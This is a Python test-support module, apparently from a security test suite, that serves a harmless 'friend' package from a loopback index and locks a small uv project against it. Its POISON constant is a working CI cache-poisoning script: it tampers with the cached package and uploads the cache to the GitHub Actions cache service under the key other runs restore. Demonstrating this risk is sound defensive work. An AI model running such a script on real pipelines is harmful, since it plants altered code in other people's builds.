"""A package index on loopback with one package, `friend`, and a project that needs it: what a cache can poison."""

from __future__ import annotations

import hashlib
import io
import subprocess
import threading
import zipfile
from collections.abc import Iterator
from contextlib import contextmanager
from functools import partial
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

WHEEL = "friend-1.0-py3-none-any.whl"
PROJECT = """\
[project]
name = "tiny"
version = "1"
requires-python = ">=3.11"
dependencies = ["friend"]

[tool.uv]
package = false

[tool.uv.sources]
friend = {{ index = "near" }}

[[tool.uv.index]]
name = "near"
url = "{url}/simple"
explicit = true
"""
# What a pull request's code can do: change a package in uv's cache, and save that under the key that others ask for.
POISON = """\
import hashlib, io, json, os, pathlib, tarfile, urllib.request

cache = pathlib.Path(os.environ["UV_CACHE_DIR"])
(module,) = cache.glob("archive-v*/*/friend.py")
module.unlink()
module.write_text("WORD = 'poisoned'\\n")
packed = io.BytesIO()
with tarfile.open(fileobj=packed, mode="w") as archive:
    archive.add(cache, ".")
content = packed.getvalue()
server = os.environ["ACTIONS_CACHE_URL"] + "_apis/artifactcache/caches"


def send(method, url, data, **headers):
    headers = {"Content-Type": "application/json"} | {name.replace("_", "-"): value for name, value in headers.items()}
    with urllib.request.urlopen(urllib.request.Request(url, data, headers, method=method)) as answer:
        return json.load(answer)


key = "setup-uv-" + hashlib.sha256(pathlib.Path("uv.lock").read_bytes()).hexdigest()
asked = json.dumps({"key": key, "version": "uv", "cacheSize": len(content)}).encode()
place = f"{server}/{send('POST', server, asked)['cacheId']}"
send("PATCH", place, content, Content_Range=f"bytes 0-{len(content) - 1}/*")
send("POST", place, b"")
print("saved", key)
"""


class _Files(SimpleHTTPRequestHandler):
    """A folder, whose files never change: as PyPI says of its own."""

    def end_headers(self) -> None:
        self.send_header("cache-control", "max-age=31536000, immutable")
        super().end_headers()

    def log_message(self, format: str, *args: object) -> None:
        """Stay quiet."""


@contextmanager
def friendly(folder: Path) -> Iterator[str]:
    """The index's address; its files are put into `folder`."""
    content = _wheel()
    (folder / "simple" / "friend").mkdir(parents=True)
    (folder / WHEEL).write_bytes(content)
    link = f'<a href="/{WHEEL}#sha256={hashlib.sha256(content).hexdigest()}">{WHEEL}</a>'
    (folder / "simple" / "friend" / "index.html").write_text(link, encoding="utf-8")
    server = ThreadingHTTPServer(("127.0.0.1", 0), partial(_Files, directory=str(folder)))
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.01}, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_port}"
    finally:
        server.shutdown()
        server.server_close()
        thread.join()


def project(uv: str, url: str, folder: Path) -> dict[str, str]:
    """The project's files, locked."""
    folder.mkdir()
    (folder / "pyproject.toml").write_text(PROJECT.format(url=url), encoding="utf-8")
    command = [uv, "lock", "--quiet", "--cache-dir", str(folder / "cache")]
    subprocess.run(command, cwd=folder, check=True)
    return {name: (folder / name).read_text(encoding="utf-8") for name in ("pyproject.toml", "uv.lock")}


def _wheel() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("friend.py", "WORD = 'good'\n")
        archive.writestr("friend-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: friend\nVersion: 1.0\n")
        archive.writestr("friend-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
        archive.writestr("friend-1.0.dist-info/RECORD", "")
    return out.getvalue()
